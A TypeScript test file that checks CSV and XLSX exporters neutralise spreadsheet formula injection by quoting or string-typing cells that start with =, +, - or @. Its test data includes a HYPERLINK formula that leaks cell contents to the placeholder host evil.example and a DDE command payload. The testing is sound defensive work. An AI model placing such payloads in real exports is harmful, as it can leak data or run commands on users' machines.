import { describe, expect, it } from 'vitest';
import { parseCsv } from './csv.ts';
import { csvOf } from './csvWrite.ts';
import { writeXlsx } from './workbook.ts';

/** A member who named itself to run a formula in the spreadsheet of whoever exports the activity log. */
const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';

describe('csvOf', () => {
  it('writes a header and quoted fields that the import reads back as they were', () => {
    const columns = [
      { header: 'date', key: 'date' },
      { header: 'text', key: 'text' },
    ];
    const rows = [
      { date: '2025-03-01 08:00', text: 'Mia; "the" lead\nsaid hi' },
      { date: '2025-03-02 09:00', text: null },
    ];
    const text = csvOf(columns, rows, ';');
    expect(text.startsWith('\uFEFFdate;text\r\n')).toBe(true);
    expect(parseCsv(text.replace(/^\uFEFF/, ''), ';')).toEqual([
      ['date', 'text'],
      ['2025-03-01 08:00', 'Mia; "the" lead\nsaid hi'],
      ['2025-03-02 09:00', ''],
    ]);
  });

  it('writes no cell that a spreadsheet would run as a formula (= + - @), with either separator', () => {
    const columns = [
      { header: 'member', key: 'member' },
      { header: 'channel', key: 'channel' },
      { header: 'count', key: 'count' },
    ];
    const rows = [
      { member: HOSTILE, channel: '+33 6 12 34 56 78', count: -3 },
      { member: '@SUM(1+1)', channel: "-2+3+cmd|' /C calc'!A0", count: 0 },
      { member: 'Mia;=1+1', channel: 'Alpha', count: 1 },
    ];
    for (const separator of [',', ';']) {
      const read = parseCsv(csvOf(columns, rows, separator).replace(/^\uFEFF/, ''), separator);
      expect(read.slice(1)).toEqual([
        [`'${HOSTILE}`, "'+33 6 12 34 56 78", '-3'],
        ["'@SUM(1+1)", "'-2+3+cmd|' /C calc'!A0", '0'],
        ['Mia;=1+1', 'Alpha', '1'],
      ]);
    }
  });
});

describe('writeXlsx', () => {
  it('writes a text that starts with = as text, never as a formula (ExcelJS keeps strings as strings)', async () => {
    const blob = await writeXlsx({
      sheetName: 'Activities',
      columns: [{ header: 'member', key: 'member' }],
      rows: [{ member: HOSTILE }, { member: '@SUM(1+1)' }],
    });
    const ExcelJS = await import('exceljs');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await blob.arrayBuffer());
    const sheet = workbook.worksheets[0];
    for (const [row, text] of [
      [2, HOSTILE],
      [3, '@SUM(1+1)'],
    ] as const) {
      const cell = sheet.getCell(`A${row}`);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(text);
    }
  });
});
